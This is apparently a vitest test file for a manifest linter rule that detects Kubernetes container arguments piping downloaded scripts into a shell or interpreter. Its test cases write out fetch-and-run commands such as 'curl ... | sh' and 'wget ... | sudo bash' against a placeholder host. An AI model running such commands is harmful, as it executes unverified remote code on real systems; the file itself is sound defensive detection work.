import { expect, test } from "vitest";
import { places } from "../../places";
import { workload } from "../../workload-manifest";

const rule = "image/fetched-code";
const at = "spec.template.spec.containers.0";

test.each([
  ["curl -sL https://x.example/i.sh | sh", "curl -sL https://x.example/i.sh | sh"],
  ["set -e; wget -qO- https://x.example | sudo bash -s", "wget -qO- https://x.example | sudo bash"],
  ["curl https://x.example/a.py | python3 -", "curl https://x.example/a.py | python3"],
  ["bash <(curl -s https://x.example)", "bash <(curl"],
  ["sh -c $(curl -s https://x.example)", "sh -c $(curl"],
])("git-sync-init-fetch: %s", (script, text) => {
  expect(places(rule, workload({ container: `args: [-c, "${script}"]` }))).toEqual([`${at}.args.1 ${text}`]);
});

test.each([
  "curl -s http://localhost/health | grep ok",
  "wget https://x.example/f && sha256sum -c f.sum",
  "curl x | shasum",
])("%s is quiet", (script) => {
  expect(places(rule, workload({ container: `command: [sh, -c, "${script}"]` }))).toEqual([]);
});
